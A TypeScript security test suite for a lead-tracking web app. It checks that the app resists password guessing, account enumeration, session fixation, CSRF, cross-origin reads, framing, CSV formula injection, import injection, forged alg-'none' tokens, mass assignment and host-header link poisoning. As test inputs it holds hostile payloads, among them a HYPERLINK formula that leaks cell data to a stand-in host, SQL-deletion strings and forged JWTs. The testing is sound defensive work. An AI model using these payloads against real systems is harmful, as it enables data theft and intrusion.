/** Getting in, staying in, and doing what is not allowed: numbers T58 to T72 of the threat model, and of its first seven what concerns no page. */
import { readFileSync } from 'node:fs';
import Database from 'better-sqlite3';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { PAGE_HEADERS } from '../../server/http/page-headers.ts';
import { MINUTE, SECOND, startApp, type TestApp, type TestSite } from '../support/app.ts';
import { expectProblem } from './expect-problem.ts';
import { cookieIn, OWN_PAGE, PASSWORD, SignedIn, signIn, trySignIn, userOf } from './sign-in.ts';

let app: TestApp;
let site: TestSite;
beforeAll(async () => {
  app = await startApp({ still: true });
  site = await app.site();
});
afterAll(() => app.close());

const wrong = (email: string, from = '192.0.2.1') => trySignIn(app, { email, password: 'not the right one' }, { from });
/** The lower quartile: what others do on the machine only ever adds. */
const usual = (times: number[]) => times.toSorted((a, b) => a - b)[Math.floor(times.length / 4)]!;
const withoutInstance = ({ status, body }: { status: number; body: { instance?: string } }) => {
  const { instance: _, ...rest } = body;
  return { status, body: rest };
};

test('T41: many who sign in at once are worked off a few at a time, and others are answered meanwhile', async () => {
  const sent = Array.from({ length: 60 }, (_, i) => wrong(`crowd${i}@acme.example`, `10.0.${i}.1`));
  const collected = app.post('/v1/collect', { key: site.writeKey, sentAt: app.clock.now(), events: [] }, { key: null });
  const first = await Promise.race([collected.then(() => 'collector'), Promise.all(sent).then(() => 'all of them')]);
  expect(first).toBe('collector');
  const answers = await Promise.all(sent);
  const refused = answers.filter(({ status }) => status === 503);
  expect(answers.filter(({ status }) => status === 401).length).toBeGreaterThan(10);
  expect(refused.length).toBeGreaterThan(10);
  for (const answer of refused) expect(answer.headers['retry-after']).toBe('2');
});

describe('T58: guessing passwords', () => {
  test('T58: of one account takes longer with each failure, from wherever, and locks nobody out for good', async () => {
    const { email } = await userOf(app, 'viewer');
    const waits: number[] = [];
    for (let i = 0; i < 50; i++) {
      const answer = await wrong(email, `198.51.100.${i}`);
      if (answer.status !== 429) continue;
      expectProblem(answer, 429, 'rate_limited');
      waits.push(Number(answer.headers['retry-after']));
      app.clock.advance(waits.at(-1)! * SECOND);
    }
    expect(waits.slice(0, 4)).toEqual([2, 4, 8, 16]);
    expect(Math.max(...waits)).toBe(300);
    // The right one is not let in during the wait either, else it would tell that it is right; afterwards it is.
    await wrong(email, '198.51.100.99');
    expectProblem(await trySignIn(app, { email, password: PASSWORD }), 429, 'rate_limited');
    app.clock.advance(5 * MINUTE);
    expect((await trySignIn(app, { email, password: PASSWORD })).status).toBe(201);
    expect((await wrong(email)).status).toBe(401);
  });

  test('T58: of many accounts slows the network down that does it, and nobody else', async () => {
    const from = '203.0.113.7';
    const statuses: number[] = [];
    for (let i = 0; i < 40; i++) statuses.push((await wrong(`nobody${i}@acme.example`, from)).status);
    expect(statuses.filter((status) => status === 401)).toHaveLength(31);
    expect(statuses.slice(-9)).toEqual(Array(9).fill(429));
    expect((await wrong('nobody-else@acme.example', '203.0.113.8')).status).toBe(401);
  });

  test.each([
    ['links', { link: 'a'.repeat(43), password: PASSWORD }],
    ['tokens', { token: 'guessed' }],
    ['keys', { key: 'sk_guessed' }],
  ])('T58: %s are not guessed faster than passwords', async (_what, body) => {
    const from = `198.18.0.${Object.keys(body)[0]!.length}`;
    const statuses: number[] = [];
    for (let i = 0; i < 36; i++) statuses.push((await trySignIn(app, body, { from })).status);
    expect(statuses.filter((status) => status === 401)).toHaveLength(31);
    expect(statuses.slice(-4)).toEqual(Array(4).fill(429));
    // Who is right, elsewhere, is held up neither by that nor by having been right often.
    for (let i = 0; i < 40; i++)
      expect((await trySignIn(app, { key: app.adminKey }, { from: '198.18.1.1' })).status).toBe(201);
  });

  test('T58: many at once are no way around it', async () => {
    const { email } = await userOf(app, 'viewer');
    const answers = await Promise.all(Array.from({ length: 15 }, () => wrong(email, '203.0.113.20')));
    expect(answers.filter(({ status }) => status === 401).length).toBeLessThanOrEqual(6);
    expect(new Set(answers.map(({ status }) => status))).toEqual(new Set([401, 429]));
  });
});

describe('T59: finding out who is there', () => {
  test('T59: a wrong password and an unknown address are answered the same, in words, headers and time', async () => {
    const answers = new Set<string>();
    const timed = async (email: string, from: string) => {
      const begun = process.cpuUsage();
      const answer = await wrong(email, from);
      const { user, system } = process.cpuUsage(begun);
      const { date: _, 'x-request-id': __, ...headers } = answer.headers;
      answers.add(JSON.stringify({ ...withoutInstance(answer), headers }));
      return user + system;
    };
    /** Of people whom nobody has guessed at yet, and of strangers in between. */
    const measure = async (network: string) => {
      const people = await Promise.all(Array.from({ length: 8 }, () => userOf(app, 'viewer')));
      const [known, unknown]: [number[], number[]] = [[], []];
      for (const round of [1, 2, 3, 4]) {
        for (const [i, { email }] of people.entries()) {
          known.push(await timed(email, `${network}.${50 + i}`));
          unknown.push(await timed(`stranger${i}-${round}@${network}.example`, `${network}.${70 + i}`));
        }
      }
      return { known: usual(known), unknown: usual(unknown) };
    };
    // Work, not time: how long it takes depends on who else is on the machine. So does the work, now and then, but not each time.
    const differences: number[] = [];
    for (const network of ['203.0.113', '198.51.100', '192.0.2', '233.252.0']) {
      const { known, unknown } = await measure(network);
      expect(unknown).toBeGreaterThan(5000);
      differences.push(Math.abs(known - unknown) / known);
      if (differences.at(-1)! < 0.05) break;
    }
    expect(Math.min(...differences), differences.join()).toBeLessThan(0.05);
    expect(answers.size).toBe(1);
  });

  test('T59: the wait tells nothing either', async () => {
    const { email } = await userOf(app, 'viewer');
    const last = async (account: string, from: string) => {
      let answer = await wrong(account, from);
      for (let i = 0; i < 6; i++) answer = await wrong(account, from);
      return withoutInstance(answer);
    };
    expect(await last(email, '203.0.113.90')).toEqual(await last('nobody-at-all@acme.example', '203.0.113.91'));
  });
});

describe('T60: sessions that are planted or stolen', () => {
  test('T60: a cookie from before signing in is not taken over, and what it opened ends', async () => {
    const { email, session } = await userOf(app, 'viewer');
    for (const before of [`throughline_session=${'a'.repeat(43)}`, session.cookie]) {
      const answer = await trySignIn(app, { email, password: PASSWORD }, { headers: { cookie: before } });
      expect(cookieIn(answer)).not.toBe(before);
      expectProblem(await new SignedIn(app, before).get('/v1/session'), 401, 'unauthorized');
    }
  });

  test('T60: a cookie is worth nothing after signing out, twelve idle hours, or seven days of use', async () => {
    const { email, session } = await userOf(app, 'viewer');
    expect((await session.ask('DELETE', '/v1/session')).status).toBe(204);
    expectProblem(await session.get('/v1/session'), 401, 'unauthorized');
    const idle = await signIn(app, { email, password: PASSWORD });
    app.clock.advance(12 * 60 * MINUTE);
    expectProblem(await idle.get('/v1/session'), 401, 'unauthorized');
    const used = await signIn(app, { email, password: PASSWORD });
    const [life, step] = [7 * 24 * 60 * MINUTE, 11 * 60 * MINUTE];
    for (let age = step; age < life; age += step) {
      app.clock.advance(step);
      // Reading the log waits for what no answer waits for: the note that the session was used.
      await app.get('/v1/audit?limit=1');
      expect((await used.get('/v1/session')).status).toBe(200);
    }
    app.clock.advance(life % step);
    expectProblem(await used.get('/v1/session'), 401, 'unauthorized');
  });

  test('T60: a cookie is worth nothing once the password is changed elsewhere, or its user is no more let in', async () => {
    const { id, email, session } = await userOf(app, 'viewer');
    const other = await signIn(app, { email, password: PASSWORD });
    const change = { current: PASSWORD, password: 'a completely new one' };
    expect((await other.ask('POST', '/v1/profile/password', change)).status).toBeLessThan(300);
    expectProblem(await session.get('/v1/session'), 401, 'unauthorized');
    expect((await other.get('/v1/session')).status).toBe(200);
    expect((await app.ask('PATCH', `/v1/users/${id}`, { disabled: true })).status).toBe(200);
    expectProblem(await other.get('/v1/session'), 401, 'unauthorized');
  });

  test('T60: the database holds nothing that opens a session', async () => {
    const { email, session } = await userOf(app, 'viewer');
    const made = await app.post('/v1/users', { email: `x${email}`, name: 'x', role: 'viewer' });
    const secrets = [session.cookie.split('=')[1]!, made.body.link.split('#link=')[1], PASSWORD];
    const db = new Database(app.databaseFile, { readonly: true });
    const tables = db.prepare("select name from sqlite_master where type = 'table'").all() as { name: string }[];
    const all = JSON.stringify(tables.map(({ name }) => db.prepare(`select * from "${name}"`).all()));
    const hashes = db.prepare('select password from users where password is not null').pluck().all() as string[];
    db.close();
    for (const secret of secrets) expect(all).not.toContain(secret);
    expect(hashes.length).toBeGreaterThan(0);
    for (const hash of hashes) expect(hash).toMatch(/^\$argon2id\$v=19\$m=19456,t=2,p=1\$/);
  });
});

test('T61: the cookie is kept from scripts, other sites and plain http', async () => {
  const plain = await trySignIn(app, { key: app.adminKey });
  expect(String(plain.headers['set-cookie'])).toMatch(
    /^throughline_session=[\w-]{43}; Max-Age=604800; Path=\/; HttpOnly; SameSite=Lax$/,
  );
  const secure = await startApp({ publicUrl: 'https://leads.example' });
  try {
    const answer = await trySignIn(secure, { token: secure.signInToken });
    expect(String(answer.headers['set-cookie'])).toMatch(
      /^__Host-throughline_session=[\w-]{43}; Max-Age=604800; Path=\/; HttpOnly; Secure; SameSite=Lax$/,
    );
    expect((await new SignedIn(secure, cookieIn(answer)).get('/v1/session')).status).toBe(200);
    // A cookie that any sub-domain could have set does not count.
    const planted = cookieIn(answer).replace('__Host-', '');
    expectProblem(await new SignedIn(secure, planted).get('/v1/session'), 401, 'unauthorized');
  } finally {
    await secure.close();
  }
});

describe('T62: another site makes the browser ask', () => {
  test.each([
    ['a form or an image', {}],
    ['another site', { 'sec-fetch-site': 'cross-site' }],
    ['another host of the same site', { 'sec-fetch-site': 'same-site' }],
    ['an old browser, elsewhere', { origin: 'https://evil.example' }],
    ['a sandboxed frame', { origin: 'null' }],
    ['a host that begins like ours', { origin: 'http://localhost.evil.example' }],
  ])('T62: %s changes nothing', async (_what, headers: Record<string, string>) => {
    const { session, id } = await userOf(app, 'owner');
    expectProblem(await session.ask('PATCH', `/v1/users/${id}`, { name: 'Evil' }, headers), 403, 'forbidden');
    expectProblem(await session.ask('DELETE', '/v1/profile/sessions', undefined, headers), 403, 'forbidden');
    expectProblem(
      await trySignIn(app, { key: app.adminKey }, { headers: { 'sec-fetch-site': 'none', ...headers } }),
      403,
      'forbidden',
    );
    await session.ask('DELETE', '/v1/session', undefined, headers);
    expect((await session.get('/v1/session')).status).toBe(200);
  });

  test('T62: text/plain, which a page may send anywhere without asking, is no way around it', async () => {
    const { session, id } = await userOf(app, 'owner');
    const headers = { 'sec-fetch-site': 'cross-site', 'content-type': 'text/plain' };
    const answer = await session.ask('PATCH', `/v1/users/${id}`, JSON.stringify({ name: 'Evil' }), headers);
    expectProblem(answer, 403, 'forbidden');
  });
});

test('T63: no other origin may read the API, with or without credentials', async () => {
  const { session } = await userOf(app, 'owner');
  for (const origin of ['https://evil.example', 'null', 'http://localhost.evil.example'])
    for (const url of ['/v1/session', '/v1/users', `/v1/leads?site=${site.id}`]) {
      const { headers } = await session.ask('GET', url, undefined, { origin });
      expect(
        Object.keys(headers).filter((name) => name.startsWith('access-control')),
        url,
      ).toEqual([]);
    }
  const body = { key: site.writeKey, sentAt: app.clock.now(), events: [] };
  const { headers } = await session.ask('POST', '/v1/collect', body, { origin: 'https://evil.example' });
  expect(headers['access-control-allow-origin']).toBe('*');
  expect(headers['access-control-allow-credentials']).toBeUndefined();
});

test('T64: no page of ours can be put into a frame', () => {
  expect(PAGE_HEADERS['content-security-policy']).toContain("frame-ancestors 'none'");
  expect(PAGE_HEADERS['x-frame-options']).toBe('DENY');
});

test('T03: the page carries no data in its HTML, and no script of its own', () => {
  const html = readFileSync(new URL('../../dashboard/index.html', import.meta.url), 'utf8');
  expect(html).not.toMatch(/<script(?![^>]*\ssrc=)|\son\w+=/i);
  expect(PAGE_HEADERS['content-security-policy']).not.toContain('unsafe');
});

test('T04: no cell of a file is run by a spreadsheet', async () => {
  const own = await app.site();
  const evil = ['=HYPERLINK("http://e/?"&A1)', '+1+1', '-2+3', '@SUM(1)', '\t=1', '\r=1', '=cmd'];
  for (const [i, name] of evil.entries()) await own.post('/v1/leads', { email: `e${i}@acme.example`, name });
  const answer = await own.get('/v1/leads?format=csv');
  expect(answer.headers).toMatchObject({
    'content-type': 'text/csv; charset=utf-8',
    'content-disposition': 'attachment; filename="leads.csv"',
  });
  expect(answer.text).not.toMatch(/(?:^|,|\r\n)"?[=+@\t]/);
  expect(answer.text.match(/(?:,)"?'[=+\-@\t]/g)?.length).toBeGreaterThanOrEqual(5);
});

test('T07: a file that is imported is data, whatever it says', async () => {
  const own = await app.site();
  const csv = [
    'email,name,"drop table leads;--"',
    `a@acme.example,"'); delete from sites; --",x`,
    'b@acme.example,"{{7*7}}<%=7*7%>",x',
  ].join('\r\n');
  const answer = await own.post('/v1/imports/leads', csv, { headers: { 'content-type': 'text/csv' } });
  expect(answer.status).toBeLessThan(300);
  const { data } = (await own.get('/v1/leads')).body;
  expect(data.map(({ name }: { name: string }) => name).toSorted()).toEqual([
    "'); delete from sites; --",
    '{{7*7}}<%=7*7%>',
  ]);
  expect((await app.get(`/v1/sites/${own.id}`)).status).toBe(200);
});

test('T65: a key works in headers only, at once not when revoked, and is stored as a digest', async () => {
  const { id, key } = await app.key({ scopes: ['read'], sites: [site.id] });
  for (const name of ['api_key', 'apiKey', 'key', 'access_token'])
    expect((await app.get(`/v1/leads?${name}=${key}`, { key: null })).status).toBe(401);
  expect((await app.get(`/v1/leads?key=${key}`, { key })).status).toBe(400);
  await app.ask('DELETE', `/v1/keys/${id}`);
  expectProblem(await app.get('/v1/leads', { key }), 401, 'unauthorized');
  const db = new Database(app.databaseFile, { readonly: true });
  expect(JSON.stringify(db.prepare('select * from keys').all())).not.toContain(key);
  db.close();
});

test('T66: tokens that say of themselves what they may are none', async () => {
  const part = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url');
  const claims = part({ sub: 'admin', role: 'owner', scopes: ['manage'], exp: 9_999_999_999 });
  for (const header of [{ alg: 'none' }, { alg: 'HS256', typ: 'JWT' }]) {
    const token = `${part(header)}.${claims}.`;
    expectProblem(await app.get('/v1/leads', { key: token }), 401, 'unauthorized');
    expectProblem(await new SignedIn(app, `throughline_session=${token}`).get('/v1/session'), 401, 'unauthorized');
    expectProblem(await trySignIn(app, { token }), 401, 'unauthorized');
  }
});

test('T68: nobody gives herself what a call does not take', async () => {
  const { session, id } = await userOf(app, 'owner');
  for (const [method, url, body] of [
    ['PATCH', `/v1/users/${id}`, { role: 'viewer', id: 'user_other' }],
    ['PATCH', `/v1/users/${id}`, { password: 'hash', isActive: true }],
    ['POST', '/v1/users', { email: 'm@acme.example', name: 'M', role: 'viewer', status: 'active' }],
    ['PATCH', `/v1/sites/${site.id}`, { writeKey: 'wk_mine' }],
    ['POST', '/v1/keys', { name: 'k', scopes: ['read'], key: 'sk_mine' }],
  ] as const)
    expectProblem(await session.ask(method, url, body), 400, 'invalid_request');
  expectProblem(await trySignIn(app, { key: app.adminKey, scopes: ['manage'] }), 400, 'invalid_request');
});

describe('T70: taking over what has just been started', () => {
  test('T70: nobody owns a new installation who cannot read what the server printed', async () => {
    const fresh = await startApp();
    try {
      const owner = { email: 'evil@acme.example', name: 'Evil', password: PASSWORD };
      expectProblem(
        await fresh.post('/v1/profile/owner', owner, { key: null, headers: OWN_PAGE }),
        401,
        'unauthorized',
      );
      for (const [email, password] of [
        ['admin', 'admin'],
        ['admin@localhost', 'password'],
        ['root', ''],
      ] as const)
        expectProblem(await trySignIn(fresh, { email, password }), 401, 'unauthorized');
      for (const token of ['', 'x', fresh.signInToken.slice(0, -1), `${fresh.signInToken}x`])
        expectProblem(await trySignIn(fresh, { token }), 401, 'unauthorized');
      expect((await fresh.get('/v1/users')).body.data).toEqual([]);
    } finally {
      await fresh.close();
    }
  });
});

describe('T71: links that set a password', () => {
  const linkOf = async (id: string) => (await app.post(`/v1/users/${id}/link`)).body;
  const secretOf = ({ link }: { link: string }) => link.split('#link=')[1]!;

  test('T71: of somebody who is there work for thirty minutes, once, and end all sessions', async () => {
    const { id, session } = await userOf(app, 'viewer');
    const first = await linkOf(id);
    expect(Date.parse(first.expiresAt) - app.clock.now()).toBe(30 * MINUTE);
    const late = secretOf(await linkOf(id));
    expectProblem(await trySignIn(app, { link: secretOf(first), password: PASSWORD }), 401, 'unauthorized');
    app.clock.advance(30 * MINUTE);
    expectProblem(await trySignIn(app, { link: late, password: PASSWORD }), 401, 'unauthorized');
    const link = secretOf(await linkOf(id));
    const both = await Promise.all([
      trySignIn(app, { link, password: PASSWORD }),
      trySignIn(app, { link, password: 'what the thief would like' }),
    ]);
    expect(both.map(({ status }) => status).toSorted()).toEqual([201, 401]);
    expectProblem(await session.get('/v1/session'), 401, 'unauthorized');
  });

  test('T71: never lead to the host that a request names', async () => {
    const { id } = await userOf(app, 'viewer');
    const headers = { host: 'evil.example', 'x-forwarded-host': 'evil.example' };
    expect((await app.post(`/v1/users/${id}/link`, undefined, { headers })).text).not.toContain('evil');
    const named = await startApp({ publicUrl: 'https://leads.example/' });
    try {
      const user = { email: 'a@acme.example', name: 'A', role: 'viewer' };
      const { link } = (await named.post('/v1/users', user, { headers })).body;
      expect(link).toMatch(/^https:\/\/leads\.example\/sign-in#link=[\w-]{43}$/);
    } finally {
      await named.close();
    }
  });

  test('T71: that are guessed are refused like any other', async () => {
    for (const link of ['', 'x', 'a'.repeat(43)])
      expectProblem(await trySignIn(app, { link, password: PASSWORD }), 401, 'unauthorized');
  });
});

test('T72: a parameter twice, or another method in a header, is no way in', async () => {
  const { session } = await userOf(app, 'viewer', [site.id]);
  expectProblem(await session.get(`/v1/leads?site=${site.id}&site=x`), 400, 'invalid_request');
  for (const header of ['x-http-method-override', 'x-method-override', 'x-http-method'])
    expect(
      (await session.ask('GET', '/v1/profile/sessions', undefined, { ...OWN_PAGE, [header]: 'DELETE' })).body.data,
    ).toHaveLength(1);
  expect((await session.get('/v1/leads?_method=DELETE')).status).toBe(400);
  expect([404, 405]).toContain((await session.ask('TRACE', '/v1/leads')).status);
});
